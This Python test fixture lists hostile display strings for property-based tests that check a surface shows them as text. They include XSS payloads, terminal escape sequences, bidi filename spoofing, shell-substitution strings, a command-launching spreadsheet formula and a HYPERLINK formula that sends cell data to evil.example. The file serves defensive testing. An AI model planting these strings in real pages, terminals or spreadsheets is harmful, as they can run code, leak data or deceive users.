"""Names as other people's systems may send them: what a surface must show as text and not obey."""

from hypothesis import strategies as st

NAMES = {
    "script": "</script><script>alert(1)</script>",
    "script in capitals": "</SCRIPT ><!-- <script>",
    "image": '"><img src=x onerror=alert(1)>',
    "entity": "&lt;b&gt; &amp; &#60;script>",
    "markup that closes": "[/it] reseau",
    "markup": "[vpn]",
    "style": "[bold red]all is well[/]",
    "emoji code": ":smile:",
    "markdown image": "![x](https://evil.example/x.png)",
    "markdown link": "[x](javascript:alert(1)) <https://evil.example>",
    "address": "https://evil.example/x www.evil.example a@evil.example",
    "markdown": "**x** _y_ `z` ~~w~~ # h",
    "table": "a | b | c\\|d\\",
    "clears": "\x1b[2J\x1b[H",
    "title": "\x1b]0;owned\x07",
    "link": "\x1b]8;;https://evil.example\x1b\\click\x1b]8;;\x1b\\",
    "C1": "\x9b31m\x85x\x7f",
    "backspaces": "safe\x08\x08\x08\x08evil",
    "lines": "a\r\nError: b\nc\u2028d",
    "nothing": "a\x00b",
    "turned": "\u202egpj.exe\u202c \u2066x\u2069 \u200f",
    "unseen": "zero\u200bwidth\ufeff\U000e0041",
    "formula": '=HYPERLINK("https://evil.example?"&A1)',
    "command": "@SUM(1+1)*cmd|' /C calc'!A0",
    "mathematics": r"$\frac{$ and $x_1$ \notacommand",
    "formats": "%s %n {name} {{ .x }} ${HOME} $(id)",
    "quotes": "\"a\" 'b' \\n \\",
    "long": "x" * 10_000,
    "Arabic": "شبكة الطابق",
    "Hindi": "कंप्यूटर समस्या",
    "Chinese": "打印机",
    "family": "\U0001f468\u200d\U0001f469\u200d\U0001f467",
    "accents": "Résea\u0301u e\u0301" + "\u0301" * 50,
    "underscore": "_nolegend_",
}
"""By what they would do."""

names = st.lists(
    st.sampled_from(sorted(NAMES.values())) | st.text(min_size=1, max_size=12),
    min_size=1,
    max_size=3,
).map("".join)
"""Any of them, beside each other and beside any other text."""

OBEYED = {
    *map(chr, range(0x20)),
    *map(chr, range(0x7F, 0xA0)),
    *"\u061c\u200b\u200e\u200f\u2028\u2029\u202a\u202b\u202c\u202d\u202e",
    *"\u2066\u2067\u2068\u2069\ufeff\U000e0041",
}
"""Characters that a terminal or a reader's eye would obey."""
